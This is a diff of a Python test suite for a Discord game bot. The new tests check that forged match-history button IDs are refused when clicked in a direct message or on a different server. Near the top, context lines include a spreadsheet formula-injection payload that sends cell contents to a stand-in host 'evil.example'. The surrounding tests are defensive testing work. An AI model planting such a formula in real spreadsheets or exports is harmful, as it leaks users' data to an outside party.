@@ -18,7 +18,7 @@ import discord
 from tests.bot.afrika_tables import lobby_message
 from tests.bot.table import custom_ids, last_reply, make_table
 from tests.bot.test_ratings import challenge
-from tests.bot.test_trust_ids import FORGED
+from tests.bot.test_trust_ids import FORGED, _click
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for prizes")'
 
@@ -117,3 +117,57 @@ async def test_a_lobby_deck_value_in_other_digits_is_a_sentence(simcord_env) -> 
     for value in ("d:²", "d:٣", "d:" + "9" * 30):
         said = await _choose(env, alice, t.channel, f"ld:{lobby_id}", value)
         assert said == "I don't know that deck: choose one from the menu.", said
+
+
+# ------------------------------------------------------------------ item 4: history pages keep their server
+
+IN_A_DM = "Match history is kept per server: use /history in that server's channel."
+ELSEWHERE = "These pages belong to another server: use /history here for this one."
+
+
+async def _dm_with(env: Any, member: Any, custom_id: str) -> Any:
+    """A direct message from the bot to ``member`` carrying one button ``custom_id``."""
+    view = discord.ui.View(timeout=None)
+    view.add_item(discord.ui.Button(label="Forged", custom_id=custom_id))
+    user = env.bot.get_user(member.id) or await env.bot.fetch_user(member.id)
+    return await user.send(FORGED, view=view)
+
+
+async def test_a_history_page_clicked_in_a_direct_message_shows_nothing(simcord_env) -> None:
+    """Carol forges pages of Alice's history (and her own) in her DMs: no server, no matches."""
+    env = simcord_env
+    t = make_table(env)
+    alice, carol = t.members["alice"], t.members["carol"]
+    await challenge(env, t, "alice", "bob", loser="bob")
+    await challenge(env, t, "carol", "bob", loser="carol")
+    g = t.guild.id
+    for member, custom_id in [
+        (carol, f"hist:{carol.id}:{alice.id}::0:n"),  # as pages were posted before the server was carried
+        (carol, f"hist:{g}:{carol.id}:{alice.id}::0:n"),
+        (carol, f"hist:{carol.id}:{carol.id}:afrika:0:p"),
+        (alice, f"hist:{g}:{alice.id}:{alice.id}::0:n"),  # her own page, opened on the server
+    ]:
+        message = await _dm_with(env, member, custom_id)
+        result = await member.user.click(message, custom_id=custom_id)
+        reply = last_reply(result)
+        assert reply.content == IN_A_DM and reply.ephemeral, (custom_id, reply.content)
+        shown = [m.content for m in member.user.dm_channel.history()]
+        assert FORGED in shown and not any("matches" in c for c in shown), shown
+
+
+async def test_a_history_page_of_one_server_is_refused_on_another(simcord_env) -> None:
+    env = simcord_env
+    t = make_table(env)
+    alice = t.members["alice"]
+    await challenge(env, t, "alice", "bob", loser="bob")
+    elsewhere = env.create_guild("Elsewhere")
+    lounge = elsewhere.create_text_channel("lounge")
+    there = elsewhere.add_member(alice.user)
+    said = await _click(env, there, lounge, f"hist:{t.guild.id}:{alice.id}:{alice.id}::0:n")
+    assert said == ELSEWHERE
+    # the pages of the server the page was opened in still turn there (and a new page carries it)
+    said = await _click(env, alice, t.channel, f"hist:{t.guild.id}:{alice.id}:{alice.id}::0:n")
+    assert said.startswith("📜 **alice's matches** on this server · 1 match"), said
+    # with no server in the id (an older page), a page shows the server it is clicked in
+    said = await _click(env, there, lounge, f"hist:{alice.id}:{alice.id}::0:n")
+    assert said == "alice has no ended matches on this server yet.", said
